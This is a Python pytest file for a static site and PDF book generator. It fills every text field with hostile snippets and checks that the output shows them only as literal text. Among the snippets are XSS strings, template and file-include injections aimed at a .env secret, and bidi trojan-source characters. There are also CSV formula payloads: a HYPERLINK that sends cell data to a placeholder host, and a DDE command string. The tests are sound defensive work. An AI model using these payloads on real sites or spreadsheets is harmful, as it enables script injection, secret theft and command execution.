"""Text that looks like code, typed into every text field, reaches the site (and PDF) as literal text.

The mini fixture is copied, every free-text field of every entity is replaced by a tagged string
holding all the hostile snippets below (rotated so each snippet also starts some field, where
line-start syntax such as ``# heading`` or ``--8<--`` would bite), and a hostile seed is added so
quotes carry the same text. The built HTML is then read back: the visible text must be exactly what
the editor typed, and nothing may run, load a file or change the page's structure.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from hostile_support import build, copy_project, dangers, fetch_until, scan_html, serving
from bookgen.problems import Problems
from bookgen.yamlstrict import read_yaml

SECRET = "DOTENV-SECRET-7f3a"  # written to .env and docs/.env; must never reach any output file

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "[x](javascript:alert(3))",
    "<a href=\"javascript:alert(4)\">y</a>",
    "{: onclick=\"alert(5)\" }",
    "--8<-- \".env\"",
    "{{ 7*7 }}",
    "{% if true %}jinja{% endif %}",
    "| a | b |",
    "# Heading",
    "&amp; &lt;b&gt; &#60;i&#62;",
    "*em* __strong__ `code`",
    "<!-- comment -->",
    "</title><script>alert(6)</script>",
    "#read(\".env\") #eval(\"7*6\") $x^2$ @fig <lbl> #set page(width: 1cm)",  # Typst syntax
    "^[inline note] [^1] ~~struck~~ :smile: ==mark==",
]
RLM = "abc\u200fdcba"  # a right-to-left mark (a check warning): rendered visibly as [U+200F]
RLM_SHOWN = "abc[U+200F]dcba"

# free-text fields per content kind, as paths into the YAML value ("*" = every list item)
TEXT_FIELDS: dict[str, list[tuple[Any, ...]]] = {
    "actors": [("name",), ("role",), ("aliases", "*")],
    "issues": [("title",), ("summary", "text"), ("status", "*", "text"), ("open_questions", "*", "text")],
    "annotations": [("annotations", "*", "note"), ("annotations", "*", "stance"),
                    ("annotations", "*", "figure", "value"),
                    ("annotations", "*", "figure", "unit"), ("annotations", "*", "figure", "measures")],
    "claims": [("title",), ("question",)],
    "events": [("title",), ("place",), ("summary", "text")],
    "sources": [("title",), ("title_from",), ("publisher",), ("url",), ("published_note",),
                ("left_out", "*", "reason")],
}


def hostile_value(n: int, rotation: int) -> str:
    """Field number ``n``'s text: a unique tag plus every hostile snippet, rotated."""
    k = (n + rotation) % len(HOSTILE)
    parts = HOSTILE[k:] + HOSTILE[:k]
    return " ".join(parts) + f" F{n:02d}"


def _set(value: Any, path: tuple[Any, ...], make: Any) -> None:
    head, rest = path[0], path[1:]
    targets = range(len(value)) if head == "*" and isinstance(value, list) else [head]
    for key in targets:
        if isinstance(value, dict) and key not in value:
            continue
        if not rest:
            value[key] = make()
        else:
            _set(value[key], rest, make)


def hostile_project(dest: Path, rotation: int) -> tuple[Path, list[str]]:
    """The mini project with hostile text in every text field; returns the root and the typed values."""
    root = copy_project(dest)
    typed: list[str] = []

    def make() -> str:
        typed.append(hostile_value(len(typed), rotation))
        return typed[-1]

    for kind, fields in TEXT_FIELDS.items():
        for f in sorted((root / "content" / kind).glob("*.yaml")):
            doc = read_yaml(f.read_bytes(), str(f), Problems())
            assert doc is not None
            for path in fields:
                _set(doc.data, path, make)
            f.write_text(json.dumps(doc.data, indent=1, ensure_ascii=True) + "\n", "utf-8")
    claim = root / "content" / "claims" / "plan-share.yaml"
    data = json.loads(claim.read_text("utf-8"))
    typed.append(RLM_SHOWN + " " + data["question"])
    data["question"] = RLM + " " + data["question"]
    claim.write_text(json.dumps(data, indent=1) + "\n", "utf-8")

    # a hostile seed, so that quotes (and the source page) carry the same text
    lines = ["Hostile report"] + [f"The editor typed {h} in paragraph {i}." for i, h in enumerate(HOSTILE)]
    seed = ("\n".join(lines) + "\n").encode("utf-8")
    (root / "seeds" / "hostile.txt").write_bytes(seed)
    (root / "content" / "sources" / "hostile.yaml").write_text(json.dumps({
        "file": "seeds/hostile.txt", "title": "Hostile seed", "publisher": "unknown", "url": "unknown",
        "published": "2025-12-28", "sha256": hashlib.sha256(seed).hexdigest()}) + "\n", "utf-8")
    anns = [{"id": f"h-{i}", "kind": "statement", "quote": line, "note": f"Quote {i}.",
             "speaker": "alpha", "issues": ["peace-plan"], "date": "2025-12-28"}
            for i, line in enumerate(lines[1:])]
    (root / "content" / "annotations" / "hostile.yaml").write_text(
        json.dumps({"source": "hostile", "annotations": anns}, indent=1) + "\n", "utf-8")
    typed += lines[1:]

    (root / ".env").write_text(f"TOKEN={SECRET}\n", "utf-8")
    (root / "seeds" / ".env").write_text(f"TOKEN={SECRET}\n", "utf-8")
    return root, typed


def built_pages(root: Path) -> dict[str, str]:
    return {p.relative_to(root / "site").as_posix(): p.read_text("utf-8")
            for p in sorted((root / "site").rglob("*.html"))}


@pytest.fixture(scope="module", params=[0, 5, 9], ids=lambda r: f"rotation{r}")
def hostile_site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory):
    root, typed = hostile_project(tmp_path_factory.mktemp("hostile") / "book", request.param)
    code, out = build(root, full=True)  # the full book prints every field; the brief only some
    assert code == 0, out
    return root, typed


def test_every_typed_value_is_visible_as_typed(hostile_site) -> None:
    root, typed = hostile_site
    visible = "\n".join(scan_html(html).visible for html in built_pages(root).values())
    missing = [t for t in typed if t not in visible]
    assert not missing, f"{len(missing)} of {len(typed)} values not shown as typed, e.g. {missing[:2]}"
    assert "\u200f" not in visible  # the mark is shown as [U+200F], never applied


def test_nothing_runs_or_loads(hostile_site) -> None:
    root, _ = hostile_site
    for name, html in built_pages(root).items():
        assert not dangers(scan_html(html), "alert("), name


def test_layout_unchanged(hostile_site) -> None:
    root, _ = hostile_site
    for name, html in built_pages(root).items():
        scan = scan_html(html)
        assert not [h for h in scan.headings if h[1].startswith("Heading")], name
        assert "a" not in scan.cells and "b" not in scan.cells, name  # '| a | b |' made no table
        made = {("em", "em"), ("strong", "strong"), ("code", "code"), ("a", "x"), ("a", "y")}
        assert not made & set(scan.inline), name  # no emphasis, code or link from typed syntax
        assert not [t for t, _ in scan.tags if t in ("img", "i", "b")], name


def test_no_file_is_included(hostile_site) -> None:
    root, _ = hostile_site
    for f in sorted((root / "site").rglob("*")) + sorted((root / "build").rglob("*")):
        if f.is_file():
            assert SECRET.encode() not in f.read_bytes(), f


def test_search_index_keeps_text_as_text(hostile_site) -> None:
    """The search index holds the page text; Material shows it as HTML, so it must stay escaped."""
    root, _ = hostile_site
    index = json.loads((root / "site" / "search" / "search_index.json").read_text("utf-8"))
    for doc in index["docs"]:
        for field in ("title", "text"):
            assert "<script" not in doc[field] and "onerror" not in doc[field].replace("onerror=alert(2)&gt;", ""), doc[field][:200]


def _squash(text: str) -> str:
    """Text without white space and without the soft hyphens pdftotext shows at hyphenation points."""
    return re.sub(r"\s+", "", text.replace("\u00ad", ""))


def test_pdf_text_is_literal(hostile_site) -> None:
    """The PDFs that ``bookgen build --full`` put next to the site show the same literal text: the
    full book every value, the brief whatever it prints of them."""
    assert shutil.which("pdftotext"), "pdftotext (poppler-utils) is needed; `make test-deps` installs it"
    root, typed = hostile_site
    for name, every in (("book.pdf", True), ("briefing.pdf", False)):
        pdf = root / "site" / name
        assert pdf.is_file(), f"bookgen build --full made no {name}"
        text = subprocess.run(["pdftotext", "-raw", "-enc", "UTF-8", str(pdf), "-"], capture_output=True,
                              text=True, check=True).stdout
        assert SECRET not in text
        assert "\u200f" not in text
        flat = _squash(text)
        # a long value may be cut by a page break, with that page's footnotes between its halves: then
        # each hostile snippet of it (and its tag) must still be printed literally, in one piece
        shown = typed if every else [t for t in typed if t.split()[-1] in flat]
        assert shown, name
        missing = [t for t in shown if _squash(t) not in flat
                   and not all(_squash(part) in flat for part in (*(h for h in HOSTILE if h in t), t.split()[-1]))]
        assert not missing, f"{name}: {len(missing)} of {len(shown)} values not printed as typed, e.g. {missing[:2]}"


def test_bidi_overrides_are_errors_marks_warnings(tmp_path: Path) -> None:
    """Trojan-source characters are caught at check time with their exact position, in YAML
    (comments included) and in seeds; on pages any that remain are shown as [U+XXXX]."""
    from hostile_support import check_output

    root = copy_project(tmp_path / "book")
    (root / "content" / "actors" / "gamma.yaml").write_text(
        "# admin\u202e \u2066comment\nname: Gam\u202ema\nkind: person\nrole: \"\u200fRTL\"\n", "utf-8")
    seed = root / "seeds" / "talks.txt"
    seed.write_text(seed.read_text("utf-8").replace("Key dates", "Key\u2067 dates"), "utf-8")
    code, out = check_output(root)
    assert code == 1
    lines = [ln for ln in out.splitlines() if "bidi-control" in ln]
    assert lines == [
        "content/actors/gamma.yaml:1:8: error: invisible bidi control U+202E RIGHT-TO-LEFT OVERRIDE "
        "changes how the text around it is displayed; remove it [bookgen.bidi-control]",
        "content/actors/gamma.yaml:1:10: error: invisible bidi control U+2066 LEFT-TO-RIGHT ISOLATE "
        "changes how the text around it is displayed; remove it [bookgen.bidi-control]",
        "content/actors/gamma.yaml:2:10: error: invisible bidi control U+202E RIGHT-TO-LEFT OVERRIDE "
        "changes how the text around it is displayed; remove it [bookgen.bidi-control]",
        "content/actors/gamma.yaml:4:8: warning: invisible direction mark U+200F RIGHT-TO-LEFT MARK; "
        "keep it only in right-to-left text [bookgen.bidi-control]",
        "seeds/talks.txt:4:4: error: invisible bidi control U+2067 RIGHT-TO-LEFT ISOLATE "
        "changes how the text around it is displayed; remove it [bookgen.bidi-control]",
    ]


def test_escape_shows_every_bidi_control() -> None:
    from bookgen.mdtext import escape
    from bookgen.yamlstrict import BIDI_MARKS, BIDI_OVERRIDES

    for ch in [*BIDI_OVERRIDES, *BIDI_MARKS]:
        assert escape(f"a{ch}b") == f"a\\[U+{ord(ch):04X}\\]b"


def test_serve_escapes_titles_too(tmp_path: Path) -> None:
    """``bookgen serve`` (the editors' preview of a pull request) applies the same escaping."""
    root, _ = hostile_project(tmp_path / "book", 0)
    with serving(root) as base:
        html = fetch_until(f"{base}/issues/peace-plan/")
    scan = scan_html(html)
    assert not dangers(scan, "alert("), [t for t in scan.tags if t[0] in ("script", "img")]
    assert hostile_value(0, 0).split(" F")[0][:40] in scan.visible


def test_csv_export_cannot_run_formulas(tmp_path: Path) -> None:
    """claims.csv is opened in spreadsheets: text that starts like a formula stays text (a leading
    apostrophe, the spreadsheet convention), numbers stay numbers, nothing else changes."""
    import csv
    import io

    from bookgen.exports import claims_csv
    from bookgen.pipeline import check

    root = copy_project(tmp_path / "book")
    ann = root / "content" / "annotations" / "talks.yaml"
    text = ann.read_text("utf-8")
    typed = {
        "note": '=HYPERLINK("http://x.invalid/?"&A1,"click")',
        "measures": "@SUM(A1:A9)",
        "unit": "+cmd|' /C calc'!A0",
        "value": "-5",
    }
    text = text.replace("note: Alpha said the plan was 90% agreed.", f"note: '{typed['note']}'")
    text = text.replace("measures: share of the plan agreed", f"measures: \"{typed['measures']}\"")
    text = text.replace("unit: percent", f"unit: \"{typed['unit']}\"")
    text = text.replace('value: "90"', f"value: \"{typed['value']}\"")
    ann.write_text(text, "utf-8")
    result = check(root)
    assert result.book is not None, result.problems.render()
    rows = list(csv.DictReader(io.StringIO(claims_csv(result.book).decode("utf-8"))))
    row = next(r for r in rows if r["annotation"] == "t-alpha-90")
    assert row["note"] == "'" + typed["note"]
    assert row["figure_measures"] == "'" + typed["measures"]
    assert row["figure_unit"] == "'" + typed["unit"]
    assert row["figure_value"] == "-5"  # a plain number is left as it is
    for r in rows:
        for cell in r.values():
            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and (cell[:1] != "-" or cell == "-5"), cell
